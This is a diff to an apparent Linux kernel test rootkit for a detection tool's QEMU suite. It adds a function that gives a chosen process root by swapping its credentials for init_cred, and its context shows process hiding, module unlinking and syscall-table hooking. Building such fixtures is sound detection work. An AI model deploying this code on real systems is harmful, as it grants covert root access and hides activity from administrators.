@@ -6,6 +6,9 @@
 //
 //   hide_pid=N   the task N is unlinked from init_task.tasks (DKOM, as the
 //                FU/adore family and Volatility's psxview target)
+//   root_pid=N   the task N's cred and real_cred pointers set to init_cred,
+//                the kernel's own credentials (a "give root" by DKOM, not
+//                commit_creds(); references taken so that nothing is freed)
 //   module       unlinked from the modules list (Diamorphine, Reptile): still
 //                in mod_tree and in sysfs
 //   table        sys_call_table[__NR_kill] = kp_rootkit_kill (Diamorphine),
@@ -36,6 +39,8 @@ MODULE_DESCRIPTION("kpeek test rootkit (QEMU suite only)");
 
 static int hide_pid;
 module_param(hide_pid, int, 0);
+static int root_pid;
+module_param(root_pid, int, 0);
 
 typedef unsigned long (*lookup_fn)(const char *name);
 static lookup_fn lookup;
@@ -190,6 +195,31 @@ static void hide_task(void)
 		pr_info("kp_rootkit: task failed\n");
 }
 
+static void give_root(void)
+{
+	struct task_struct *t;
+	struct cred *init_cred = (struct cred *)lookup("init_cred");
+
+	if (!root_pid || !init_cred) {
+		if (root_pid)
+			pr_info("kp_rootkit: cred failed\n");
+		return;
+	}
+	rcu_read_lock();
+	t = pid_task(find_vpid(root_pid), PIDTYPE_PID);
+	if (t) {
+		get_cred(init_cred);
+		get_cred(init_cred);
+		rcu_assign_pointer(t->real_cred, init_cred);
+		rcu_assign_pointer(t->cred, init_cred);
+	}
+	rcu_read_unlock();
+	if (t)
+		pr_info("kp_rootkit: cred %d %px\n", root_pid, t);
+	else
+		pr_info("kp_rootkit: cred failed\n");
+}
+
 static int __init kp_rootkit_init(void)
 {
 	int err = find_lookup();
@@ -204,6 +234,7 @@ static int __init kp_rootkit_init(void)
 	hook_kprobe();
 	hook_tracepoint();
 	hide_task();
+	give_root();
 	list_del(&THIS_MODULE->list);
 	pr_info("kp_rootkit: module %px\n", THIS_MODULE);
 	return 0;
